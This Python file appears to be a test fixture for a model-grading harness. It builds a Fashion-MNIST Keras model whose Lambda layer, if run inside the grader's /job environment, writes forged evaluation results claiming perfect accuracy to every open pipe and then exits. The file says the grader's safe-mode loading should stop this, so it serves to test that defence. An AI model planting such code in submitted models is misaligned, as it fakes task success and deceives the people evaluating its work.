"""A model with a Lambda layer whose function would forge the grader's evaluation if it ever ran there.

During training the function is the identity. Run where the saved model is evaluated (the folder
/job holds model.keras), it prints a marker and writes frames claiming 100% accuracy to every pipe.
The grader loads models in Keras safe mode, which refuses to run a Lambda's code.
"""

import tensorflow as tf


def identity_or_forge(x):
    import json
    import os
    import stat

    if os.path.exists("/job/model.keras"):
        print("hostile-lambda-" + "ran-7e51", flush=True)  # split so the marker is in no copy of the source
        result = json.dumps({"loaded": True, "params": 7850, "layers": ["Lambda"], "output_shape": [None, 10],
                             "test_accuracy": 1.0, "train_accuracy": 1.0, "output_row_sums": [1.0]}).encode()
        for name in os.listdir("/proc/self/fd"):
            try:
                if stat.S_ISFIFO(os.fstat(int(name)).st_mode):
                    os.write(int(name), b"evaluation.json\n%d\n" % len(result) + result)
            except OSError:
                pass
        os._exit(0)
    return x


def create_and_compile_model():
    model = tf.keras.Sequential([
        tf.keras.Input(shape=(28, 28)),
        tf.keras.layers.Lambda(identity_or_forge),
        tf.keras.layers.Flatten(),
        tf.keras.layers.Dense(10, activation="softmax"),
    ])
    model.compile(optimizer="adam", loss="sparse_categorical_crossentropy", metrics=["accuracy"])
    return model


class EarlyStoppingCallback(tf.keras.callbacks.Callback):
    def on_epoch_end(self, epoch, logs=None):
        if logs["accuracy"] >= 0.88:
            self.model.stop_training = True


def train_fashion_mnist(training_images, training_labels):
    model = create_and_compile_model()
    return model.fit(training_images[:600], training_labels[:600], epochs=1, callbacks=[EarlyStoppingCallback()], verbose=0)
